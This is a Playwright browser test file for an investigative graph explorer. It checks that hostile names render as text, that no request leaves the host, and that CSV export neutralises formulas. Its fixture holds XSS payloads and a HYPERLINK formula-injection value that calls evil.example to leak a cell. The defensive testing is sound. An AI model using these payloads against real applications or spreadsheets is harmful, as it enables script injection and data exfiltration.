"""The explorer in a real headless Chromium: ``streamlit run app.py`` driven by Playwright.

One investigator's session on the demo graph plus a hostile case file: open the app, search
an entity, open its network, run a saved query, open the Dutch-link page on a case whose
evidence passes a person named ``<img src=x onerror=alert(1)>``. Proves what AppTest cannot:
the network component draws a canvas, tooltips show case-file text as text, and hostile
text shows as text and runs nothing (no dialog, no injected element, no address in a name
turned into a link). Every request the browser makes is recorded: one that leaves the
explorer's own host (a favicon from fonts.gstatic.com, a script from a CDN) fails the test,
as it would tell a third party what is viewed and break an air-gapped install. Tables offer
no built-in download: the logged Export step is the only way out. Screenshots go to
``build/test-artifacts/browser/`` (or ``DISMARK_TEST_ARTIFACTS``) for a person to look at.

Off CI a machine without /usr/bin/chromium skips; on CI (``CI`` set) a missing browser fails.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import REPO, embedded_url

from bench import browser as real_browser
from bench.browser import (
    CHROMIUM,
    DRAWN_CANVASES,
    VIEWPORT,
    chromium,
    labels_of,
    labels_over_nodes,
    on_network,
    overlapping_pairs,
    running_explorer,
    visible_label_boxes,
)
from graph.model.ontology import load_ontology
from graph.store import open_store
from graph.store.config import Settings
from loaders.load import load_paths

IN_CI = os.environ.get("CI", "").strip().lower() not in ("", "0", "false", "no")
CHROMIUM_ARGS = [*real_browser.CHROMIUM_ARGS, "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
ARTIFACTS = Path(os.environ.get("DISMARK_TEST_ARTIFACTS") or REPO / "build" / "test-artifacts")
WAIT_MS = 60_000
HOSTILE = "<img src=x onerror=alert(1)>"
HOSTILE_GROUP = '"><svg onload=alert(2)>'
#: a name holding bare addresses, which markdown would turn into links of its own
LINKED = "Bas http://evil.example/x www.evil.example bas@evil.example"
#: a name a spreadsheet would run as a formula, listed by the vulnerable-persons query
FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'
#: A Belgian case file whose plantation is run by the hostile person, who calls a Dutch grower
#: of the demo: the plantation gets a Dutch-link evidence path through the hostile name.
HOSTILE_DOSSIER = f"""
case: {{id: be-2023-lim-hostile-names, country: BE, kind: police_report, opened_on: 2023-05-02,
        agency: PZ Noorderkempen, title: Plantage te Lommel, grading: B2}}
entities:
  - {{type: Person, id: person-be-hostile, properties: {{name: "{HOSTILE}",
      residence_country: BE}}}}
  - {{type: Organisation, id: org-be-hostile, properties: {{name: '{HOSTILE_GROUP}',
      base_country: BE, markets: [cannabis]}}}}
  - {{type: Plantation, id: plantation-be-hostile-2023, properties: {{plant_count: 800,
      country: BE}}}}
  - {{type: Person, id: person-jeroen-vos, properties: {{name: Jeroen Vos}}}}
  - {{type: Person, id: person-be-linked, properties: {{name: "{LINKED}"}}}}
  - {{type: Person, id: person-be-formula, properties: {{name: '{FORMULA}', vulnerable: true,
      residence_country: BE}}}}
links:
  - {{type: CONTACT, source: person-be-linked, target: person-be-hostile,
      properties: {{kind: call, count: 2}}, date: 2023-04-12, grading: B2}}
  - {{type: OPERATES, source: person-be-hostile, target: plantation-be-hostile-2023}}
  - {{type: MEMBER_OF, source: person-be-hostile, target: org-be-hostile}}
  - {{type: CONTACT, source: person-be-hostile, target: person-jeroen-vos,
      properties: {{kind: call, count: 12}}, date: 2023-04-11, grading: B2}}
"""

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists() and not IN_CI,
    reason=f"{CHROMIUM} is missing (apt-get install chromium); on CI this fails instead")


@pytest.fixture(scope="module")
def explorer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Base URL of ``streamlit run app.py`` on the demo graph plus the hostile case file."""
    folder = tmp_path_factory.mktemp("browser")
    cases = folder / "cases"
    shutil.copytree(REPO / "data" / "demo", cases)
    (cases / "be-2023-lim-hostile-names.yaml").write_text(HOSTILE_DOSSIER, encoding="utf-8")
    store = open_store(embedded_url(folder), Settings())
    report = load_paths(store, [cases], load_ontology())
    assert report.exit_code == 0, report.as_dict()
    # admin: the tests visit every page, Load included (the local default is analyst)
    env = {**os.environ, "DISMARK_STORE": store.url, "DISMARK_LOCAL_ROLE": "admin"}
    try:
        with running_explorer(env, folder / "streamlit.log") as base:
            yield base
    finally:
        store.close()


#: where the browser may go: the explorer itself, and what it makes in the page
LOCAL_HOSTS = {"127.0.0.1", "localhost"}
LOCAL_SCHEMES = {"data", "blob", "about"}


def leaving(urls: list[str]) -> list[str]:
    """The requests that left this machine's explorer."""
    from urllib.parse import urlsplit

    return [url for url in urls if urlsplit(url).scheme not in LOCAL_SCHEMES
            and urlsplit(url).hostname not in LOCAL_HOSTS]


@pytest.fixture
def page(explorer: str) -> Iterator:
    """A fresh Chromium tab; any JavaScript dialog (an XSS's alert) fails the test, and so
    does any request to a host other than the explorer's (every request is recorded)."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing on CI: apt-get install chromium")
    shots = ARTIFACTS / "browser"
    shots.mkdir(parents=True, exist_ok=True)
    dialogs: list[str] = []
    with chromium(CHROMIUM_ARGS) as browser:
        context = browser.new_context(viewport=VIEWPORT)
        requests: list[str] = []
        context.on("request", lambda r: requests.append(r.url))  # frames and workers too
        tab = context.new_page()
        tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        tab.base, tab.shots, tab.requests = explorer, shots, requests
        yield tab
        assert dialogs == [], f"a script ran: {dialogs}"
        assert requests, "no request was recorded"
        assert leaving(requests) == [], f"requests left the machine: {leaving(requests)}"


def answer_who_and_why(page) -> None:
    """The first screen, as a user fills it: a name (never pre-filled) and a purpose."""
    real_browser.sign_in(page, "browser-test", "browser test of the explorer",
                         timeout_ms=WAIT_MS)


def open_view(page, path: str = "") -> None:
    """Go to ``path`` in a new session, answering the who-and-why form as a user would, the
    first time in this browser (a later session resumes from the sign-in ticket)."""
    page.goto(f"{page.base}/{path}")
    form = page.get_by_role("textbox", name="Your name or user id")
    form.or_(page.get_by_text("Working as browser-test")).first.wait_for(timeout=WAIT_MS)
    if form.count():
        answer_who_and_why(page)


def drawn_network(page, nth: int = 0):
    """The canvas element of the ``nth`` network drawing, once vis-network has drawn it."""
    return real_browser.drawn_network(page, nth, timeout_ms=WAIT_MS)


def screenshot(page, name: str) -> None:
    """The whole page into the tests' artifacts, for a person to look at."""
    real_browser.screenshot(page, page.shots / name)


def node_on_screen(page, canvas, label: str) -> tuple[float, float]:
    """Page coordinates of the node labelled ``label``, zoomed onto it."""
    return real_browser.node_on_screen(canvas, label, zoom=1.2)


def hover_node(page, canvas, label: str) -> str:
    """Move the mouse onto the node labelled ``label``; return its tooltip's visible text.
    A pointer that lands while the drawing is still settling gets no tooltip: it moves off
    and on again, as a person's would."""
    tooltip = page.locator("div.vis-tooltip").first
    for _ in range(5):
        x, y = node_on_screen(page, canvas, label)
        page.mouse.move(x - 40, y - 40)
        page.mouse.move(x, y, steps=4)
        try:
            tooltip.wait_for(state="visible", timeout=3_000)
            return tooltip.inner_text()
        except Exception:  # Playwright's TimeoutError: try again
            continue
    screenshot(page, f"no-tooltip-{len(label)}.png")
    raise AssertionError(f"no tooltip for {label!r}")


def no_injected_markup(page) -> None:
    """No element the hostile names would create exists in the page or its frames, and no
    link to an address written in a name."""
    for frame in page.frames:
        assert frame.locator("img[src='x'], svg[onload]").count() == 0, frame.url
        assert frame.locator("a[href*='evil.example']").count() == 0, frame.url


def test_search_then_network_of_the_match(page) -> None:
    page.goto(page.base)
    page.get_by_role("heading", name="DISMARK explorer").wait_for(timeout=WAIT_MS)
    screenshot(page, "00-who-and-why.png")  # nothing of the graph before it is answered
    assert page.get_by_role("heading", name="Overview").count() == 0
    answer_who_and_why(page)
    page.get_by_role("heading", name="Overview").wait_for(timeout=WAIT_MS)
    screenshot(page, "01-overview.png")

    open_view(page, "search?q=J.%20Vos")
    page.get_by_text("Best match:").wait_for(timeout=WAIT_MS)
    assert "Jeroen Vos" in page.get_by_text("Best match:").inner_text()
    screenshot(page, "02-search.png")

    page.get_by_role("link", name="Network of the best match").click()
    page.get_by_role("heading", name="Jeroen Vos").wait_for(timeout=WAIT_MS)
    frame = drawn_network(page)
    labels = labels_of(frame)
    # 1 hop around Jeroen Vos in the demo: his groups, phones, van and grow shop among others
    assert {"Jeroen Vos", "Kempen-crew", "Growshop Het Groene Licht", "1-KMP-482"} <= set(labels)
    canvas = frame.locator("canvas").first.bounding_box()
    assert canvas and canvas["width"] > 400 and canvas["height"] > 400
    tooltip = hover_node(page, frame, "Jeroen Vos")
    assert "Person · person-jeroen-vos" in tooltip and "country: NL" in tooltip
    screenshot(page, "03-network.png")


def test_saved_query_draws_its_subgraph(page) -> None:
    open_view(page, "?query=network-around")
    # the entity is picked by name, as an investigator knows it, not typed as an id
    page.get_by_role("textbox", name="Search by name or id (id)").fill("koen claeys")
    page.keyboard.press("Enter")
    screenshot(page, "04a-saved-query-search.png")
    page.get_by_role("combobox", name="id").click()
    page.get_by_role("option", name="Koen Claeys — Person").first.click()
    page.get_by_role("spinbutton", name="hops (integer 1–3)").fill("1")
    page.get_by_role("button", name="Run").click()
    frame = drawn_network(page)
    labels = labels_of(frame)
    assert "Koen Claeys" in labels and "Kempen-crew" in labels
    assert not any(label.startswith(("be-", "nl-")) for label in labels)  # no case files
    page.get_by_role("button", name="Export (CSV, GraphML)").click()  # logged first
    page.get_by_role("button", name="Download CSV").wait_for(timeout=WAIT_MS)
    screenshot(page, "04-saved-query.png")


#: JavaScript: how many nodes the (first) drawing shows now
_CANVAS_NODES = f"Number({DRAWN_CANVASES}[0]?.dataset.nodes)"


def test_network_clicks_open_the_card_expand_and_save_a_picture(page) -> None:
    open_view(page, "?entity=person-jeroen-vos")
    page.get_by_role("heading", name="Jeroen Vos").wait_for(timeout=WAIT_MS)
    canvas = drawn_network(page)
    labels = labels_of(canvas)
    # ties between actors only, by default: no case file, no town
    assert "Kempen-crew" in labels and not any(x.startswith(("be-", "nl-")) for x in labels)
    boxes = visible_label_boxes(canvas)
    assert len(boxes) >= 3
    # readable: no two drawn labels overlap, and no label is drawn across another node
    assert overlapping_pairs(boxes) == 0 and labels_over_nodes(canvas) == 0
    # a click: the card of the node, under the drawing
    page.mouse.click(*node_on_screen(page, canvas, "Kempen-crew"))
    page.get_by_text("Kempen-crew — Organisation").first.wait_for(timeout=WAIT_MS)
    page.get_by_text("Source case files").first.wait_for(timeout=WAIT_MS)
    screenshot(page, "09-network-card.png")
    # a double-click: its neighbours join the view, the URL says so
    shown = len(labels)
    page.mouse.dblclick(*node_on_screen(page, canvas, "Kempen-crew"))
    page.wait_for_url("**expand=org-kempen-crew**", timeout=WAIT_MS)
    page.wait_for_function("n => [...document.querySelectorAll('*')].some(e => e.shadowRoot"
                           " && [...e.shadowRoot.querySelectorAll('.dm-canvas')].some("
                           "c => Number(c.dataset.nodes) !== n))", arg=shown, timeout=WAIT_MS)
    canvas = drawn_network(page)
    expanded = len(labels_of(canvas))
    assert expanded > shown
    screenshot(page, "10-network-expanded.png")
    # the browser's Back undoes the expansion (the view lives in the URL), Forward redoes it
    page.go_back()
    page.wait_for_function("() => !location.search.includes('expand=')", timeout=WAIT_MS)
    page.wait_for_function(f"() => {_CANVAS_NODES} === {shown}", timeout=WAIT_MS)
    page.go_forward()
    page.wait_for_function(f"() => {_CANVAS_NODES} === {expanded}", timeout=WAIT_MS)
    # a widget follows Back too: 2 hops, then Back to 1 hop (the slider moves back)
    slider = page.get_by_role("slider").first
    slider.focus()
    page.keyboard.press("ArrowRight")
    page.wait_for_url("**hops=2**", timeout=WAIT_MS)
    page.go_back()
    page.wait_for_function("() => !location.search.includes('hops=')", timeout=WAIT_MS)
    thumb = page.locator("[data-testid='stSliderThumbValue']").first
    page.wait_for_function("t => t.innerText.trim() === '1'", arg=thumb.element_handle(),
                           timeout=WAIT_MS)
    page.wait_for_timeout(1000)  # the page ran again with the URL's hops: it stays there
    assert "hops=" not in page.url
    # a picture of the view, logged before it is handed over
    page.get_by_role("button", name="PNG").click()
    page.get_by_role("button", name="Save the picture (PNG)").wait_for(timeout=WAIT_MS)


def test_network_selects_several_hides_pins_and_exports_for_the_case_file(page) -> None:
    open_view(page, "network?entity=person-jeroen-vos")
    page.get_by_role("heading", name="Jeroen Vos").wait_for(timeout=WAIT_MS)
    canvas = drawn_network(page)
    shown = len(labels_of(canvas))
    # ctrl-click adds to the selection: the Paths page's answers for the two, or hide both
    page.mouse.click(*node_on_screen(page, canvas, "Kempen-crew"))
    page.get_by_text("Kempen-crew — Organisation").first.wait_for(timeout=WAIT_MS)
    page.keyboard.down("Control")
    page.mouse.click(*node_on_screen(page, canvas, "Growshop Het Groene Licht"))
    page.keyboard.up("Control")
    page.get_by_text("2 selected:").wait_for(timeout=WAIT_MS)
    link = page.get_by_role("link", name="Shortest paths between the two")
    assert "from=org-kempen-crew" in link.get_attribute("href")
    assert "to=growshop-nl-het-groene-licht" in link.get_attribute("href")
    screenshot(page, "11-network-two-selected.png")
    page.get_by_role("button", name="Hide the selected").click()
    page.wait_for_url("**hide=**", timeout=WAIT_MS)
    page.wait_for_function(f"() => {_CANVAS_NODES} === {shown - 2}", timeout=WAIT_MS)
    page.go_back()  # Back brings them back
    page.wait_for_function(f"() => {_CANVAS_NODES} === {shown}", timeout=WAIT_MS)
    # a drag pins: the node stays where it was put, after a reload too (it is in the URL)
    canvas = drawn_network(page)
    x, y = node_on_screen(page, canvas, "Kempen-crew")
    page.mouse.move(x, y)
    page.mouse.down()
    page.mouse.move(x + 90, y + 60, steps=8)
    page.mouse.up()
    page.wait_for_url("**pin=org-kempen-crew**", timeout=WAIT_MS)
    dropped = on_network(canvas, "(() => { const n = net.body.data.nodes.get({filter: "
                                 "m => m.label === 'Kempen-crew'})[0]; "
                                 "return net.getPositions([n.id])[n.id]; })()")
    page.reload()
    canvas = drawn_network(page)
    again = on_network(canvas, "(() => { const n = net.body.data.nodes.get({filter: "
                               "m => m.label === 'Kempen-crew'})[0]; "
                               "return net.getPositions([n.id])[n.id]; })()")
    assert abs(again["x"] - dropped["x"]) <= 1 and abs(again["y"] - dropped["y"]) <= 1
    # close up, every link says what it is
    box = canvas.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    for _ in range(40):  # each turn of the wheel zooms in by a tenth
        if on_network(canvas, "net.getScale()") >= 1.6:
            break
        page.mouse.wheel(0, -120)
        page.wait_for_timeout(50)
    page.wait_for_function(f"() => {DRAWN_CANVASES}[0]?.dataset.linkLabels === '1'",
                           timeout=WAIT_MS)
    # an SVG and a one-page printable chart, each logged before it is handed over
    page.get_by_role("button", name="SVG", exact=True).click()
    with page.expect_download(timeout=WAIT_MS) as svg:
        page.get_by_role("button", name="Save the picture (SVG)").click()
    drawing = Path(svg.value.path()).read_text(encoding="utf-8")
    assert drawing.startswith("<?xml") and ">Jeroen Vos</text>" in drawing
    page.get_by_role("button", name="Chart", exact=True).click()
    with page.expect_download(timeout=WAIT_MS) as chart:
        page.get_by_role("button", name="Save the printable chart").click()
    printed = page.context.new_page()
    printed.set_content(Path(chart.value.path()).read_text(encoding="utf-8"))
    assert printed.get_by_text("Made by browser-test").count() == 1
    assert printed.locator("svg text", has_text="Jeroen Vos").count() == 1
    printed.screenshot(path=str(page.shots / "12-network-printable-chart.png"), full_page=True)
    printed.close()


def test_dutch_link_page_draws_hostile_evidence_as_text(page) -> None:
    open_view(page, "dutch-link?case=plantation-be-hostile-2023")
    page.get_by_role("heading", name="Dutch link").wait_for(timeout=WAIT_MS)
    frame = drawn_network(page)
    labels = labels_of(frame)
    assert HOSTILE in labels and "Jeroen Vos" in labels  # the path to the Dutch grower
    tooltip = hover_node(page, frame, HOSTILE)
    assert HOSTILE in tooltip  # shown as text, the markup escaped
    no_injected_markup(page)
    screenshot(page, "05-dutch-link.png")


def test_hostile_names_are_text_on_every_view(page) -> None:
    open_view(page, "?entity=person-be-hostile")
    page.get_by_role("heading", name=HOSTILE).wait_for(timeout=WAIT_MS)
    frame = drawn_network(page)
    assert {HOSTILE, HOSTILE_GROUP, "Jeroen Vos"} <= set(labels_of(frame))
    assert HOSTILE_GROUP in hover_node(page, frame, HOSTILE_GROUP)
    no_injected_markup(page)
    screenshot(page, "06-hostile-network.png")

    open_view(page, "search?q=onerror")
    page.get_by_text("Best match:").wait_for(timeout=WAIT_MS)
    assert HOSTILE in page.get_by_text("Best match:").inner_text()
    no_injected_markup(page)
    screenshot(page, "07-hostile-search.png")


def test_every_page_opens_in_the_browser_without_an_error(page) -> None:
    """Each page of the sidebar, opened bare: a title, no exception box, no error box."""
    from app import PAGE_LIST

    for i, (_, title, _, url_path, _) in enumerate(PAGE_LIST):
        open_view(page, url_path if i else "")  # the default page lives at /
        page.get_by_role("heading", name=title, exact=True).first.wait_for(timeout=WAIT_MS)
        page.wait_for_timeout(300)
        assert page.locator("[data-testid='stException']").count() == 0, url_path
        assert page.locator("[data-testid='stAlertContentError']").count() == 0, url_path
    no_injected_markup(page)


def test_a_name_holding_addresses_shows_as_text(page) -> None:
    """A bare http://…, www.… or e-mail address in a name is no link on any view of it."""
    open_view(page, "?entity=person-be-linked")
    heading = page.get_by_role("heading").filter(has_text="Bas http")
    heading.wait_for(timeout=WAIT_MS)
    assert "http://" in heading.inner_text() and "evil.example" in heading.inner_text()
    drawn_network(page)
    no_injected_markup(page)
    open_view(page, "search?q=evil.example")
    page.get_by_text("Best match:").wait_for(timeout=WAIT_MS)
    assert "evil.example" in page.get_by_text("Best match:").inner_text()
    no_injected_markup(page)
    screenshot(page, "08-linked-name.png")


def test_tables_offer_no_download_of_their_own(page) -> None:
    """The only way to take rows away is the Export step, logged and neutralised: a table's
    toolbar has no "Download as CSV"."""
    open_view(page)
    table = page.locator("[data-testid='stDataFrame']").first
    table.wait_for(timeout=WAIT_MS)
    table.hover()
    page.wait_for_timeout(500)
    screenshot(page, "09-table-toolbar.png")
    assert page.get_by_role("button", name="Download as CSV").count() == 0
    assert page.locator("[data-testid='stElementToolbar'] button").filter(
        has_text="Download").count() == 0


def test_the_export_step_neutralises_formula_cells(page) -> None:
    """The one way out for a query's rows: Export (logged) then Download CSV, whose cells a
    spreadsheet would run as formulas come out as text."""
    import csv

    open_view(page, "?query=vulnerable-persons")
    page.get_by_role("button", name="Run").click()
    page.get_by_role("button", name="Export (CSV, GraphML)").click()
    with page.expect_download(timeout=WAIT_MS) as download:
        page.get_by_role("button", name="Download CSV").click()
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(text.splitlines()))
    names = {row["person"]: row["name"] for row in rows}
    assert names["person-be-formula"] == "'" + FORMULA
    assert not [cell for row in rows for cell in row.values() if cell.startswith("=")]


def test_through_a_proxy_local_mode_lets_nobody_in(page) -> None:
    """A reverse proxy in front of the loopback-bound explorer makes it reachable from
    elsewhere: a request that says it was forwarded gets the configuration message only."""
    page.context.set_extra_http_headers({"X-Forwarded-For": "203.0.113.7"})
    page.goto(page.base)
    page.get_by_text("can be reached from beyond this machine").wait_for(timeout=WAIT_MS)
    assert page.get_by_role("textbox").count() == 0
    assert page.get_by_role("button", name="Continue").count() == 0
    screenshot(page, "10-through-a-proxy.png")


def test_a_reload_and_a_new_tab_keep_the_sign_in(page) -> None:
    """Who and why are asked once per browser session; "Change purpose" asks again, and a
    reload after it too (the ticket went with the purpose)."""
    heading = page.get_by_role("heading", name="Search", exact=True).first
    open_view(page, "search?q=vos")
    heading.wait_for(timeout=WAIT_MS)
    # the page's script sets the ticket's cookie just after the first page shows
    page.wait_for_function("() => document.cookie.includes('dismark_session=')",
                           timeout=WAIT_MS)
    page.reload()
    heading.wait_for(timeout=WAIT_MS)
    page.get_by_text("Working as browser-test").wait_for(timeout=WAIT_MS)
    assert page.get_by_role("textbox", name="Your name or user id").count() == 0
    tab = page.context.new_page()  # a table link opened in a new tab
    tab.goto(f"{page.base}/network?entity=person-jeroen-vos")
    tab.get_by_role("heading", name="Jeroen Vos").wait_for(timeout=WAIT_MS)
    assert tab.get_by_role("textbox", name="Your name or user id").count() == 0
    tab.close()
    page.get_by_role("button", name="Change purpose").click()
    page.get_by_role("textbox", name="Your name or user id").wait_for(timeout=WAIT_MS)
    page.wait_for_timeout(500)  # the page's script clears the cookie
    page.reload()
    page.get_by_role("textbox", name="Your name or user id").wait_for(timeout=WAIT_MS)
    assert not [c for c in page.context.cookies() if c["name"] == "dismark_session"]
